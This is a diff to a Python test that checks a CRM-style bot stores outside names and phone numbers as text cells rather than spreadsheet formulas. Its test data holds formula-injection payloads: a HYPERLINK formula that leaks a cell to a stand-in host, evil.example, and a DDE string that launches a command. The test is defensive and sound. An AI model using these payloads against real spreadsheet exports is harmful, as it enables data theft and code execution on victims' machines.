@@ -174,6 +174,10 @@ async def test_names_and_numbers_from_outside_are_text_cells_never_formulas(worl
     """Customers named by /name, an /import and a forwarded contact, members named at New-Tel, and a caller's number
     as New-Tel gave it, each starting the way a spreadsheet formula (or error) does: in the file, text as it is."""
     storage, sandbox, now = world.services.storage, world.sandbox, int(time.time())
+    # Named at New-Tel before anyone asks the bot: the members' list is cached for a minute (access reads it too).
+    members = sandbox.company.members[:3]
+    for member, name in zip(members, ("\t=1+1", "#N/A", "Бухгалтерия\x07"), strict=True):
+        member.name = name  # as New-Tel lists them; a bell is no character a spreadsheet can hold
     await world.say(MANAGER, '/name 79160000001 =HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")')
     csv = "name,phone\n\"=cmd|' /C calc'!A0\",79160000002\n@SUM(1+1),79160000003\n-2+3,79160000004\n"
     preview = await upload(world, ADMIN, csv.encode(), "clients.csv")
@@ -185,9 +189,6 @@ async def test_names_and_numbers_from_outside_are_text_cells_never_formulas(worl
     await world.edited(offer)
     named = book(world)
     assert len(named) == 5 and all(name[0] in "=@-+" for name in named.values())
-    members = sandbox.company.members[:3]
-    for member, name in zip(members, ("\t=1+1", "#N/A", "Бухгалтерия\x07"), strict=True):
-        member.name = name  # as New-Tel lists them; a bell is no character a spreadsheet can hold
     answered = [
         sandbox.add_call("in", clid=f"7916000000{n}", status="answered", answered_numbers=(member.internal_number,))
         for n, member in enumerate(members, start=1)
